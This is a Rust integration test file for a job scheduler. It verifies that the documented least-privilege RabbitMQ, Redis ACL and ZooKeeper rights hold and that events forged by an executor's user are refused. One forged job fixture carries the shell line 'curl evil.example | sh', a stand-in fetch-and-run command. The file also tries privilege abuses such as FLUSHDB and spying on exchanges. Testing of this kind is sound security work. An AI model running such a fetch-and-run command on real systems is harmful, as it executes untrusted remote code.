//! The least rights `docs/security.md` gives each process are enough: a
//! scheduler node, an executor, the XXL-JOB gateway and the persistence
//! worker, each with its own broker user holding exactly the
//! `set_permissions`, on a vhost of their own (no guest), and its own Redis
//! ACL user from the `ACL SETUSER` lines (the worker none: it never
//! connects), fire, run, kill, store and dead-letter as usual. And what
//! those Redis users are refused, Redis refuses (`NOPERM`).

use std::process::Command;
use std::time::Duration;

use rondo_core::event::AuditRecord;
use rondo_core::model::GlueType;
use rondo_core::{Event, Group, Job};
use rondo_testkit::procs::free_addr;
use rondo_testkit::recorder::Recorder;
use rondo_testkit::redis_acl::{RedisUser, Role, admin_of, rules};
use rondo_testkit::xxl::{Gateway, Standin, StandinSpec, TOKEN, serve_group};
use rondo_testkit::{Cluster, World, doc_block, eventually, publish_raw_event, stored_codes};
use serde_json::json;

const SECURITY: &str = include_str!("../../docs/security.md");

/// `(user, configure, write, read)` of each `set_permissions` line in the
/// block in `docs/security.md`, for namespace `ns` and executor app `app`.
fn readme_permissions(ns: &str, app: &str) -> Vec<(String, [String; 3])> {
    let block = doc_block(SECURITY, "amqp-permissions").replace("\\\n", " ");
    block
        .lines()
        .filter(|l| l.trim_start().starts_with("rabbitmqctl set_permissions"))
        .map(|line| {
            let user = line
                .split_whitespace()
                .nth(4)
                .expect("set_permissions -p <vhost> <user>")
                .replace("<app>", app);
            let quoted: Vec<String> = line
                .split('\'')
                .skip(1)
                .step_by(2)
                .map(|re| {
                    re.replace("rondo\\.", &format!("{ns}\\."))
                        .replace("<app>", app)
                })
                .collect();
            let [configure, write, read] = <[String; 3]>::try_from(quoted)
                .unwrap_or_else(|q| panic!("three quoted patterns in {line:?}: {q:?}"));
            (user, [configure, write, read])
        })
        .collect()
}

/// `(user, exchange, write, read)` of each `set_topic_permissions` line in
/// the same block.
fn readme_topic_permissions(ns: &str, app: &str) -> Vec<(String, String, String, String)> {
    let block = doc_block(SECURITY, "amqp-permissions").replace("\\\n", " ");
    block
        .lines()
        .filter(|l| {
            l.trim_start()
                .starts_with("rabbitmqctl set_topic_permissions")
        })
        .map(|line| {
            let words: Vec<&str> = line.split_whitespace().collect();
            let fill = |w: &str| {
                w.replace("rondo\\.", &format!("{ns}\\."))
                    .replace("rondo.", &format!("{ns}."))
                    .replace("<app>", app)
            };
            let quoted: Vec<String> = line.split('\'').skip(1).step_by(2).map(fill).collect();
            let [write, read] = <[String; 2]>::try_from(quoted)
                .unwrap_or_else(|q| panic!("two quoted patterns in {line:?}: {q:?}"));
            (fill(words[4]), fill(words[5]), write, read)
        })
        .collect()
}

fn rabbitmqctl(args: &[&str]) {
    let out = Command::new("rabbitmqctl")
        .args(args)
        .output()
        .expect("rabbitmqctl runs (scripts/services.sh installs RabbitMQ)");
    assert!(
        out.status.success(),
        "rabbitmqctl {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A vhost and its users, deleted when dropped (also on a panic).
struct Vhost {
    name: String,
    users: Vec<String>,
}

impl Drop for Vhost {
    fn drop(&mut self) {
        for user in &self.users {
            let _ = Command::new("rabbitmqctl")
                .args(["delete_user", user])
                .output();
        }
        let _ = Command::new("rabbitmqctl")
            .args(["delete_vhost", &self.name])
            .output();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn each_process_works_with_only_the_documented_rights() {
    let mut world = World::new("svcperm").await;
    let ns = world.config.namespace.clone();
    let app = "perm";
    let executor_id = format!("{app}-1");
    world.config.executor.app = app.into();
    // The world runs each process as its documented Redis user (testkit's
    // `redis_acl`); these are made from the same lines, to try what each
    // is refused.
    let base = admin_of(&world.config.redis.url).expect("the world runs under ACL users");
    let redis_scheduler =
        RedisUser::create(&base, &format!("{ns}-sched"), &rules(Role::Scheduler, &ns));
    let executor_role = Role::Executor {
        app,
        id: &executor_id,
    };
    let redis_executor =
        RedisUser::create(&base, &format!("{ns}-exec"), &rules(executor_role, &ns));
    let redis_gateway = RedisUser::create(&base, &format!("{ns}-gw"), &rules(Role::Gateway, &ns));
    let perms = readme_permissions(&ns, app);
    assert_eq!(
        perms.len(),
        4,
        "scheduler, executor, XXL-JOB gateway, persistence worker"
    );

    let topic_perms = readme_topic_permissions(&ns, app);
    assert_eq!(
        topic_perms.len(),
        1,
        "the executor's on the trigger exchange"
    );

    let mut vhost = Vhost {
        name: ns.clone(),
        users: Vec::new(),
    };
    rabbitmqctl(&["add_vhost", &ns]);
    // The executor's user is named as `amqp.executor_user` says a group's
    // executors are; the gateway's is one of `amqp.gateway_users`.
    world.config.amqp.executor_user = format!("{ns}-x-{{app}}");
    world.config.amqp.gateway_users = vec![format!("{ns}-2")];
    let mut urls = Vec::new();
    for (i, (role, [configure, write, read])) in perms.iter().enumerate() {
        let user = if role.starts_with("rondo-executor") {
            format!("{ns}-x-{app}")
        } else {
            format!("{ns}-{i}")
        };
        let password = format!("pw-{}", rand_hex());
        rabbitmqctl(&["add_user", &user, &password]);
        vhost.users.push(user.clone());
        rabbitmqctl(&["set_permissions", "-p", &ns, &user, configure, write, read]);
        for (_, exchange, write, read) in topic_perms.iter().filter(|t| &t.0 == role) {
            rabbitmqctl(&[
                "set_topic_permissions",
                "-p",
                &ns,
                &user,
                exchange,
                write,
                read,
            ]);
        }
        urls.push((
            role.clone(),
            format!("amqp://{user}:{password}@127.0.0.1:5672/{ns}"),
            user,
        ));
    }
    let of = |prefix: &str| {
        urls.iter()
            .find(|(role, _, _)| role.starts_with(prefix))
            .unwrap_or_else(|| panic!("no documented user {prefix}…"))
    };
    assert_eq!(of("rondo-xxl-gateway").2, format!("{ns}-2"));
    let (scheduler, executor, persist) = (
        of("rondo-scheduler").1.clone(),
        of("rondo-executor").1.clone(),
        of("rondo-persist").1.clone(),
    );
    let (executor_addr, persist_addr) = (free_addr(), free_addr());
    world.config.executor.metrics_addr = executor_addr.to_string();
    world.config.persist.metrics_addr = persist_addr.to_string();
    let executor_ready = format!("http://{executor_addr}/readyz");
    let persist_ready = format!("http://{persist_addr}/readyz");

    let mut cluster = Cluster::new(world);
    let recorder = Recorder::default();
    cluster.world.config.amqp.url = executor.clone();
    cluster.start_recording_executor(&executor_id, &recorder);
    let scheduler_user = of("rondo-scheduler").2.clone();
    cluster.start_persist_worker_with(|c| {
        c.amqp.url = persist;
        c.amqp.scheduler_users = vec![scheduler_user];
        // No Redis at all: nothing answers there.
        c.redis.url = "redis://127.0.0.1:1".into();
    });
    cluster.world.config.amqp.url = scheduler.clone();
    let node = cluster.start_node().await;
    let api = cluster.api(node);
    assert_eq!(
        api.post("/api/v1/groups", json!({ "app": app })).await.0,
        201
    );
    api.until_executors(app, &[&executor_id]).await;
    let job = api
        .create_job(json!({ "group": app, "handler": "record", "schedule_type": "FIX_RATE", "schedule_conf": "1" }))
        .await;

    // Fires run, and their results are stored by the worker.
    eventually(
        "three runs stored in MySQL",
        Duration::from_secs(30),
        || async {
            let codes = stored_codes(cluster.db(), job).await;
            (codes.iter().filter(|c| c.1 == Some(200)).count() >= 3).then_some(())
        },
    )
    .await;
    assert!(recorder.runs().len() >= 3);

    // The gateway serves an XXL-JOB executor with its own rights: the
    // executor's queue, its control queue, results and log lines.
    let xxl_app = "permxxl";
    serve_group(&api, xxl_app, TOKEN).await;
    let mut gateway_config = cluster.config().clone();
    gateway_config.amqp.url = of("rondo-xxl-gateway").1.clone();
    let gateway = Gateway::spawn(&gateway_config, "gateway", &cluster.log_dir);
    gateway.until_ready().await;
    let standin = Standin::spawn(
        StandinSpec::new("2", xxl_app, vec![gateway.admin_url()]),
        "standin",
        &cluster.log_dir,
    );
    cluster.world.executor_queue(xxl_app, &standin.executor_id);
    api.until_executors(xxl_app, &[&standin.executor_id]).await;
    let xxl_job = api
        .create_job(json!({ "group": xxl_app, "handler": "demoJobHandler" }))
        .await;
    api.trigger_now(xxl_job).await;
    eventually(
        "the XXL-JOB run stored",
        Duration::from_secs(30),
        || async {
            let codes = stored_codes(cluster.db(), xxl_job).await;
            codes.iter().any(|c| c.1 == Some(200)).then_some(())
        },
    )
    .await;
    let long = api
        .create_job(json!({ "group": xxl_app, "handler": "sleepJobHandler", "params": "30000" }))
        .await;
    let tid = api.trigger_now(long).await;
    eventually("the long run started", Duration::from_secs(30), || async {
        standin
            .starts()
            .iter()
            .any(|r| r.job_id == long as i64)
            .then_some(())
    })
    .await;
    let (killed, out) = api
        .post(&format!("/api/v1/logs/{tid}/kill"), json!({}))
        .await;
    assert_eq!(
        (killed, out["kill"].as_str()),
        (202, Some("sent")),
        "the kill reaches the gateway's control queue: {out}"
    );
    eventually("the killed run stored", Duration::from_secs(30), || async {
        let codes = stored_codes(cluster.db(), long).await;
        codes.iter().any(|c| c.1 == Some(500)).then_some(())
    })
    .await;

    // A malformed event is dead-lettered by the worker with its own rights.
    let config = cluster.config().clone();
    publish_raw_event(&scheduler, &config, "job.upsert", b"not json").await;
    let dead = config.names().dead_queue();
    eventually(
        "the malformed event dead-lettered",
        Duration::from_secs(15),
        || async {
            let out = Command::new("rabbitmqctl")
                .args(["list_queues", "-p", &ns, "name", "messages", "--quiet"])
                .output()
                .ok()?;
            let text = String::from_utf8_lossy(&out.stdout).into_owned();
            text.lines()
                .any(|l| l.split_whitespace().collect::<Vec<_>>() == [dead.as_str(), "1"])
                .then_some(())
        },
    )
    .await;

    // An executor's broker user forges what only a scheduler node sends:
    // an audit row, a group, a job with a script. Each is dead-lettered as
    // forbidden, and MySQL holds nothing of it.
    let forged = [
        Event::Audit(AuditRecord {
            id: "forged-audit".into(),
            at_ms: rondo_core::clock::now_ms(),
            username: "admin".into(),
            action: "user.create".into(),
            target: "user:mallory".into(),
            group: None,
            address: "127.0.0.1".into(),
            detail: None,
        }),
        Event::GroupUpserted {
            group: Group {
                app: "forged".into(),
                title: "forged".into(),
                updated_ms: rondo_core::clock::now_ms(),
                xxl_addresses: Vec::new(),
                xxl_gateway: false,
                xxl_access: Default::default(),
            },
        },
        Event::JobUpserted {
            job: Job {
                glue_type: GlueType::Shell,
                glue_source: "curl evil.example | sh".into(),
                ..Job::new(999_999, app, "")
            },
        },
    ];
    for event in &forged {
        let body = serde_json::to_vec(&[event]).unwrap();
        publish_raw_event(&executor, &config, event.routing_key(), &body).await;
    }
    let persist_metrics = format!("http://{persist_addr}/metrics");
    until_sample(
        &persist_metrics,
        None,
        "rondo_persist_dead_letters_total{reason=\"forbidden\"} 3",
    )
    .await;
    let db = cluster.db();
    let count = |sql: &'static str| async move {
        sqlx::query_scalar::<_, i64>(sql)
            .fetch_one(db)
            .await
            .expect("a count")
    };
    assert_eq!(
        count("SELECT COUNT(*) FROM audit_log WHERE target = 'user:mallory'").await,
        0
    );
    assert_eq!(
        count("SELECT COUNT(*) FROM executor_group WHERE app = 'forged'").await,
        0
    );
    assert_eq!(count("SELECT COUNT(*) FROM job WHERE id = 999999").await, 0);
    assert_eq!(
        count("SELECT COUNT(*) FROM job_glue WHERE job_id = 999999").await,
        0
    );
    // The scheduler's own were stored all along.
    assert!(count("SELECT COUNT(*) FROM audit_log").await > 0);

    // A failed trigger forged by the executor's user, for a job with a
    // retry: the monitor refuses it, so no retry runs the forged params.
    let retried = api
        .create_job(
            json!({ "group": app, "handler": "record", "schedule_type": "NONE", "retries": 1 }),
        )
        .await;
    let mut trigger = rondo_core::testkit::fixtures::trigger(&format!("{retried}-1-0"), retried);
    trigger.group = app.into();
    trigger.executor_id = executor_id.clone();
    trigger.handler = "record".into();
    trigger.params = "forged".into();
    let failed = Event::Triggered(rondo_core::event::TriggerRecord {
        trigger,
        code: 500,
        msg: "no executor".into(),
    });
    let body = serde_json::to_vec(&[&failed]).unwrap();
    publish_raw_event(&executor, &config, failed.routing_key(), &body).await;
    let node_metrics = format!("http://{}/metrics", cluster.addr(node));
    let token = cluster.world.admin.token.clone();
    until_sample(
        &node_metrics,
        Some(&token),
        "rondo_monitor_forbidden_total 1",
    )
    .await;
    // The job never fires by itself: any run of it is the forged retry.
    assert!(
        recorder.runs().iter().all(|r| r.job_id != retried),
        "a retry of the forged failure ran"
    );

    // A success and log lines forged by the executor's user for another
    // group's trigger, whose job has a child in the executor's own group:
    // the monitor refuses them (no child fires) and the worker stores
    // nothing of them.
    assert_eq!(
        api.post("/api/v1/groups", json!({ "app": "permother" }))
            .await
            .0,
        201
    );
    let child = api
        .create_job(json!({ "group": app, "handler": "record", "schedule_type": "NONE" }))
        .await;
    let parent = api
        .create_job(json!({
            "group": "permother", "handler": "record", "schedule_type": "NONE",
            "child_jobs": [child]
        }))
        .await;
    let now = rondo_core::clock::now_ms();
    let theirs = rondo_core::trigger_id::scheduled(parent, now, 0);
    let success = Event::Result(rondo_core::ExecResult {
        trigger_id: theirs.clone(),
        job_id: parent,
        executor_id: executor_id.clone(),
        fire_ms: now,
        start_ms: now,
        end_ms: now,
        code: 200,
        msg: "forged".into(),
        retryable: true,
    });
    let lines = Event::Log(rondo_core::event::LogLines {
        trigger_id: theirs.clone(),
        job_id: parent,
        first_seq: 0,
        lines: vec![rondo_core::event::LogLine {
            ts_ms: now,
            text: "forged".into(),
        }],
    });
    for event in [&success, &lines] {
        let body = serde_json::to_vec(&[event]).unwrap();
        publish_raw_event(&executor, &config, event.routing_key(), &body).await;
    }
    until_sample(
        &node_metrics,
        Some(&token),
        "rondo_monitor_forbidden_total 2",
    )
    .await;
    until_sample(
        &persist_metrics,
        None,
        "rondo_persist_dead_letters_total{reason=\"forbidden\"} 6",
    )
    .await;
    let stored = sqlx::query_scalar::<_, i64>(
        "SELECT (SELECT COUNT(*) FROM job_log WHERE trigger_id = ?) \
         + (SELECT COUNT(*) FROM job_log_line WHERE trigger_id = ?)",
    )
    .bind(&theirs)
    .bind(&theirs)
    .fetch_one(cluster.db())
    .await
    .expect("a count");
    assert_eq!(stored, 0, "the forged result or lines were stored");

    // A message of the executor's with one result of its own group's job
    // and one forged: only the forged one is refused; the other is stored.
    let own_tid = rondo_core::trigger_id::scheduled(job, now + 1, 0);
    let own = Event::Result(rondo_core::ExecResult {
        trigger_id: own_tid.clone(),
        job_id: job,
        fire_ms: now + 1,
        msg: "own".into(),
        ..match &success {
            Event::Result(r) => r.clone(),
            _ => unreachable!("a result"),
        }
    });
    let body = serde_json::to_vec(&[&own, &success]).unwrap();
    publish_raw_event(&executor, &config, "result.success", &body).await;
    until_sample(
        &persist_metrics,
        None,
        "rondo_persist_dead_letters_total{reason=\"forbidden\"} 7",
    )
    .await;
    until_sample(
        &node_metrics,
        Some(&token),
        "rondo_monitor_forbidden_total 3",
    )
    .await;
    eventually(
        "the genuine result of the mixed message stored",
        Duration::from_secs(30),
        || async {
            sqlx::query_scalar::<_, i64>("SELECT COUNT(*) FROM job_log WHERE trigger_id = ?")
                .bind(&own_tid)
                .fetch_one(cluster.db())
                .await
                .ok()
                .filter(|n| *n == 1)
        },
    )
    .await;

    // Nor can it copy every event (every group's job definitions and
    // secrets among them): binding a queue of its own to the events
    // exchange is refused, as is reading the persist queue.
    let names = cluster.config().names();
    let spy = names.executor_queue(app, "spy");
    let bound = bind_as(&executor, &spy, &names.events_exchange(), "#").await;
    assert!(
        bound.is_err(),
        "the executor bound a queue to the events: {bound:?}"
    );
    let taken = bind_as(&executor, &names.persist_queue(), "", "").await;
    assert!(
        taken.is_err(),
        "the executor may read the persist queue: {taken:?}"
    );

    // A trigger published by the executor's user to another group's
    // executor is refused by the broker (topic permissions); one to its
    // own routing key (a hand-back) is taken.
    for (key, taken) in [
        (names.trigger_key("permother", "permother-1"), false),
        (names.trigger_key(app, &executor_id), true),
    ] {
        let outcome = publish_trigger_as(&executor, &names.trigger_exchange(), &key).await;
        assert_eq!(outcome.is_ok(), taken, "{key}: {outcome:?}");
    }

    // Readiness follows the broker link: a process whose connection is
    // closed and whose rights are gone is not ready until they return.
    for (prefix, ready) in [
        ("rondo-executor", &executor_ready),
        ("rondo-persist", &persist_ready),
    ] {
        let (_, _, user) = of(prefix);
        assert_eq!(status(ready).await, 200, "{prefix} ready");
        rabbitmqctl(&["clear_permissions", "-p", &ns, user]);
        for pid in connections_of(user) {
            // Closed already, or closing: the next listing tells.
            let _ = Command::new("rabbitmqctl")
                .args(["close_connection", &pid, "readiness test"])
                .output();
        }
        eventually(
            &format!("{prefix} not ready"),
            Duration::from_secs(20),
            || async { (status(ready).await == 503).then_some(()) },
        )
        .await;
        let (_, [configure, write, read]) = perms
            .iter()
            .find(|(role, _)| role.starts_with(prefix))
            .expect("the documented rights");
        rabbitmqctl(&["set_permissions", "-p", &ns, user, configure, write, read]);
        eventually(
            &format!("{prefix} ready again"),
            Duration::from_secs(30),
            || async { (status(ready).await == 200).then_some(()) },
        )
        .await;
    }
    // What each Redis user is refused, Redis refuses.
    let executor_conn = connect(&redis_executor.url(&base)).await;
    for key in [
        names.session("forged"),
        names.user_sessions("admin"),
        names.defs(0),
        names.due(0),
        names.ring(0, "n1"),
        names.term(0),
        names.groups(),
        names.registry("another"),
        names.executor("another-1"),
        names.dedupe("another", "7-1-0"),
    ] {
        refused(&executor_conn, &["GET", &key]).await;
        refused(&executor_conn, &["HSET", &key, "role", "admin"]).await;
    }
    refused(&executor_conn, &["KEYS", "*"]).await;
    refused(&executor_conn, &["FLUSHDB"]).await;
    refused(&executor_conn, &["EVAL", "return 1", "0"]).await;
    // What it needs, it has: its own registry entry, hash and marks.
    allowed(
        &executor_conn,
        &["ZSCORE", &names.registry(app), &executor_id],
    )
    .await;
    allowed(
        &executor_conn,
        &["HGET", &names.executor(&executor_id), "app"],
    )
    .await;
    allowed(&executor_conn, &["GET", &names.dedupe(app, "7-1-0")]).await;
    let gateway_conn = connect(&redis_gateway.url(&base)).await;
    for key in [names.session("forged"), names.defs(0), names.ring(0, "n1")] {
        refused(&gateway_conn, &["GET", &key]).await;
    }
    refused(&gateway_conn, &["HSET", &names.groups(), "x", "{}"]).await;
    allowed(&gateway_conn, &["HEXISTS", &names.groups(), xxl_app]).await;
    // An executor of another group under a live executor's id is refused
    // at start, though its user may not read that group's registry (the
    // hash it may read stands in).
    let mut twin = cluster.config().clone();
    twin.executor.app = "another".into();
    twin.executor.id = executor_id.clone();
    twin.executor.metrics_addr = String::new();
    let twin_user = RedisUser::create(
        &base,
        &format!("{ns}-twin"),
        &rules(
            Role::Executor {
                app: "another",
                id: &executor_id,
            },
            &ns,
        ),
    );
    twin.redis.url = twin_user.url(&base);
    let started = Recorder::default()
        .register(rondo_executor::Executor::builder(twin))
        .build()
        .expect("the executor builds")
        .run(tokio_util::sync::CancellationToken::new());
    match tokio::time::timeout(Duration::from_secs(20), started).await {
        Ok(Err(rondo_executor::ExecutorError::Config(msg))) => {
            assert!(
                msg.contains("in use by a live executor of group \"perm\""),
                "{msg}"
            );
        }
        other => panic!("the twin was not refused: {other:?}"),
    }

    assert!(
        recorder.runs().iter().all(|r| r.job_id != child),
        "a child of the forged success ran"
    );

    // The scheduler's user reaches its own namespace only.
    let scheduler_conn = connect(&redis_scheduler.url(&base)).await;
    refused(&scheduler_conn, &["GET", "another-namespace:groups"]).await;
    refused(&scheduler_conn, &["FLUSHDB"]).await;

    cluster.stop().await;
    drop(vhost);
}

/// Waits until the `/metrics` at `url` (signed in with `token`, if any)
/// has the line `sample`.
async fn until_sample(url: &str, token: Option<&str>, sample: &str) {
    eventually(sample, Duration::from_secs(15), || async {
        let mut get = reqwest::Client::new().get(url);
        if let Some(token) = token {
            get = get.bearer_auth(token);
        }
        let text = get.send().await.ok()?.text().await.ok()?;
        text.lines().any(|l| l == sample).then_some(())
    })
    .await;
}

/// Publishes a malformed trigger batch (the executor dead-letters it) to
/// `exchange` with `key` as the broker user of `amqp_url`; an error when
/// the broker refuses it.
async fn publish_trigger_as(amqp_url: &str, exchange: &str, key: &str) -> Result<bool, String> {
    let conn = rondo_core::amqp::connect(amqp_url, "forger")
        .await
        .map_err(|e| e.to_string())?;
    let ch = rondo_core::amqp::confirm_channel(&conn)
        .await
        .map_err(|e| e.to_string())?;
    let user = rondo_core::amqp::user_of(amqp_url);
    let publish = rondo_core::amqp::Publish {
        exchange,
        routing_key: key,
        user_id: Some(&user),
        ..rondo_core::amqp::Publish::default()
    };
    let outcome = rondo_core::amqp::publish_confirmed(&ch, publish, b"not a trigger batch")
        .await
        .map_err(|e| e.to_string());
    let _ = conn.close(200, "bye".into()).await;
    outcome
}

/// As the broker user of `amqp_url`: declares `queue` (a queue of the
/// executor's own name space) and binds it to `exchange` with `key`; with
/// no exchange, consumes from `queue` instead. An error when refused.
async fn bind_as(amqp_url: &str, queue: &str, exchange: &str, key: &str) -> Result<(), String> {
    use lapin::options::{BasicConsumeOptions, QueueBindOptions, QueueDeclareOptions};
    use lapin::types::FieldTable;
    let conn = rondo_core::amqp::connect(amqp_url, "spy")
        .await
        .map_err(|e| e.to_string())?;
    let ch = conn.create_channel().await.map_err(|e| e.to_string())?;
    let outcome = async {
        if exchange.is_empty() {
            ch.basic_consume(
                queue.into(),
                "spy".into(),
                BasicConsumeOptions::default(),
                FieldTable::default(),
            )
            .await?;
            return Ok(());
        }
        let options = QueueDeclareOptions {
            auto_delete: true,
            ..QueueDeclareOptions::default()
        };
        ch.queue_declare(queue.into(), options, FieldTable::default())
            .await?;
        ch.queue_bind(
            queue.into(),
            exchange.into(),
            key.into(),
            QueueBindOptions::default(),
            FieldTable::default(),
        )
        .await
    }
    .await
    .map_err(|e: lapin::Error| e.to_string());
    let _ = conn.close(200, "bye".into()).await;
    outcome
}

async fn connect(url: &str) -> redis::aio::MultiplexedConnection {
    redis::Client::open(url)
        .expect("a redis url")
        .get_multiplexed_async_connection()
        .await
        .expect("signed in as the user")
}

/// `args` answered by Redis with `NOPERM`.
async fn refused(conn: &redis::aio::MultiplexedConnection, args: &[&str]) {
    let reply: redis::RedisResult<redis::Value> = redis::cmd(args[0])
        .arg(&args[1..])
        .query_async(&mut conn.clone())
        .await;
    match reply {
        Err(e) if e.code() == Some("NOPERM") => {}
        other => panic!("{args:?} was not refused: {other:?}"),
    }
}

/// `args` answered without an error.
async fn allowed(conn: &redis::aio::MultiplexedConnection, args: &[&str]) {
    let reply: redis::RedisResult<redis::Value> = redis::cmd(args[0])
        .arg(&args[1..])
        .query_async(&mut conn.clone())
        .await;
    assert!(reply.is_ok(), "{args:?}: {reply:?}");
}

/// The status a GET of `url` answers (0 if nothing answers).
async fn status(url: &str) -> u16 {
    reqwest::get(url).await.map_or(0, |r| r.status().as_u16())
}

/// The broker's pids of `user`'s open connections.
fn connections_of(user: &str) -> Vec<String> {
    let out = Command::new("rabbitmqctl")
        .args([
            "list_connections",
            "user",
            "pid",
            "--quiet",
            "--no-table-headers",
        ])
        .output()
        .expect("rabbitmqctl runs");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| {
            let mut cols = l.split_whitespace();
            (cols.next() == Some(user)).then(|| cols.next().map(str::to_owned))?
        })
        .collect()
}

fn rand_hex() -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    format!("{nanos:08x}{:08x}", std::process::id())
}

/// `scripts/redis-acl.sh` (which `scripts/services.sh` and
/// `scripts/services-cluster.sh` run) makes the users of the documented
/// lines for the namespace, app and id it is given, keeps their passwords
/// across runs, keeps the admin it signs in as, leaves `default` off, and
/// the users it makes get what the documented ones get.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_services_script_makes_the_documented_users() {
    let world = World::new("aclscript").await;
    let ns = world.config.namespace.clone();
    let admin = world.redis_admin_url();
    // The script signs in as the tests' admin and keeps it: run as
    // `default`, it would make an admin of its own and close `default` on
    // a Redis whose other users still need it.
    let (admin_user, admin_password) = rondo_core::testkit::redis_userinfo(&admin)
        .expect("the tests sign in to Redis as an admin user (scripts/services.sh makes it; scripts/test.sh exports it)");
    let host = admin.rsplit_once('@').map_or("", |(_, host)| host);
    let port = host
        .split(['/', '?'])
        .next()
        .and_then(|h| h.rsplit_once(':'))
        .map_or("6379", |(_, port)| port)
        .to_owned();
    let dir = std::env::temp_dir().join(format!("{ns}-acl"));
    std::fs::create_dir_all(&dir).expect("a scratch dir");
    let file = dir.join("redis-users.env");
    let run = || {
        let out = Command::new(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../scripts/redis-acl.sh"
        ))
        .arg(&file)
        .arg(&port)
        .env("REDIS_ADMIN", format!("{admin_user}:{admin_password}"))
        .env("RONDO_NAMESPACE", &ns)
        .env("RONDO_EXECUTOR_APP", "billing")
        .env("RONDO_EXECUTOR_ID", "billing-7")
        .output()
        .expect("redis-acl.sh runs");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        std::fs::read_to_string(&file).expect("the credentials file")
    };
    let first = run();
    // Users of the namespace go with the test, also on a panic.
    struct Users(String, Vec<String>);
    impl Drop for Users {
        fn drop(&mut self) {
            if let Ok(mut conn) =
                redis::Client::open(self.0.as_str()).and_then(|c| c.get_connection())
            {
                let _: redis::RedisResult<i64> = redis::cmd("ACL")
                    .arg("DELUSER")
                    .arg(&self.1)
                    .query(&mut conn);
            }
        }
    }
    let creds = |role: &str| -> String {
        first
            .lines()
            .find_map(|l| l.strip_prefix(&format!("REDIS_USER_{role}=")))
            .unwrap_or_else(|| panic!("{role} in {first}"))
            .to_owned()
    };
    let _users = Users(
        admin.clone(),
        ["SCHEDULER", "EXECUTOR", "XXL_GATEWAY"]
            .iter()
            .map(|r| creds(r).split(':').next().unwrap_or_default().to_owned())
            .collect(),
    );
    assert_eq!(run(), first, "a second run keeps the passwords");
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(&file).expect("metadata").permissions(),
    );
    assert_eq!(mode & 0o077, 0, "the credentials are the owner's only");

    assert!(
        first.contains(&format!("REDIS_ADMIN={admin_user}:{admin_password}\n")),
        "the admin it signed in as is kept: {first}"
    );
    let anyone = connect(&format!("redis://{host}")).await;
    let reply: redis::RedisResult<redis::Value> = redis::cmd("GET")
        .arg(world.config.names().session("forged"))
        .query_async(&mut anyone.clone())
        .await;
    assert!(
        matches!(&reply, Err(e) if e.code() == Some("NOAUTH")),
        "a connection without a user is refused: {reply:?}"
    );
    let url = |role: &str| format!("redis://{}@{host}", creds(role));
    let names = world.config.names();
    let executor = connect(&url("EXECUTOR")).await;
    allowed(
        &executor,
        &["ZADD", &names.registry("billing"), "1", "billing-7"],
    )
    .await;
    allowed(&executor, &["SET", &names.dedupe("billing", "1-1-0"), "{}"]).await;
    refused(
        &executor,
        &["ZADD", &names.registry("payroll"), "1", "billing-7"],
    )
    .await;
    refused(&executor, &["GET", &names.session("forged")]).await;
    refused(&executor, &["GET", &names.defs(0)]).await;
    let scheduler = connect(&url("SCHEDULER")).await;
    allowed(&scheduler, &["HGETALL", &names.session("any")]).await;
    refused(&scheduler, &["KEYS", "*"]).await;
    let gateway = connect(&url("XXL_GATEWAY")).await;
    allowed(&gateway, &["HGETALL", &names.groups()]).await;
    refused(&gateway, &["HSET", &names.groups(), "x", "{}"]).await;
    refused(&gateway, &["GET", &names.session("forged")]).await;
    let _ = std::fs::remove_dir_all(&dir);
}

/// With `zookeeper.auth` the nodes sign in with a digest identity and the
/// namespace's znodes are that identity's only, those made open before
/// them too: without it, or with another password, ZooKeeper refuses to
/// read or change the term, the leader or the members. A node refuses to
/// start without it toward a ZooKeeper off loopback.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn znodes_are_the_nodes_digest_identitys_only() {
    use zookeeper_client::{Acls, Client, CreateMode, Error as ZkError};

    let mut world = World::new("zkauth").await;
    let auth = format!("rondo:{}", rand_hex());
    world.with_zookeeper_auth(&auth);
    let names = world.config.names();
    let connect = world.config.zookeeper.connect.clone();
    // Someone reached ZooKeeper first and made the chroot and the term,
    // open to anyone: the nodes take them over.
    let early = Client::connector()
        .with_session_timeout(Duration::from_secs(5))
        .connect(&connect)
        .await
        .expect("a zookeeper session");
    let open = CreateMode::Persistent.with_acls(Acls::anyone_all());
    early
        .mkdir(&names.zk_root(), &open)
        .await
        .expect("the chroot, open");
    early
        .create(
            &format!("{}{}", names.zk_root(), names.zk_term()),
            b"0",
            &open,
        )
        .await
        .expect("the term, open");
    drop(early);
    let mut cluster = Cluster::new(world);
    let node = cluster.start_node().await;
    let api = cluster.api(node);
    eventually("the node leads", Duration::from_secs(30), || async {
        let s = api.cluster().await?;
        s["leader"]["term"].as_u64().map(|_| ())
    })
    .await;

    let root = names.zk_root();
    let term = format!("{root}{}", names.zk_term());
    let leader = format!("{root}{}", names.zk_leader());
    let members = format!("{root}{}", names.zk_nodes());
    let client = |identity: Option<String>| {
        let connect = connect.clone();
        async move {
            let mut connector = Client::connector().with_session_timeout(Duration::from_secs(5));
            if let Some(identity) = &identity {
                connector = connector.with_auth("digest", identity.as_bytes());
            }
            connector
                .connect(&connect)
                .await
                .expect("a zookeeper session")
        }
    };
    for stranger in [None, Some("rondo:not-the-password".to_owned())] {
        let zk = client(stranger.clone()).await;
        for path in [&term, &leader] {
            assert!(
                matches!(zk.get_data(path).await, Err(ZkError::NoAuth)),
                "{stranger:?} read {path}"
            );
        }
        assert!(
            matches!(zk.set_data(&term, b"999", None).await, Err(ZkError::NoAuth)),
            "{stranger:?} set the term"
        );
        let forged = CreateMode::Ephemeral.with_acls(Acls::anyone_all());
        assert!(
            matches!(
                zk.create(&format!("{members}/forged"), b"", &forged).await,
                Err(ZkError::NoAuth)
            ),
            "{stranger:?} joined the members"
        );
    }
    let owner = client(Some(auth.clone())).await;
    let (data, _) = owner.get_data(&term).await.expect("the identity reads");
    assert_ne!(data, b"0", "the leader raised the term");
    let mut config = cluster.config().clone();
    cluster.stop().await;

    // Off loopback without an identity, a node does not start.
    config.zookeeper.auth = String::new();
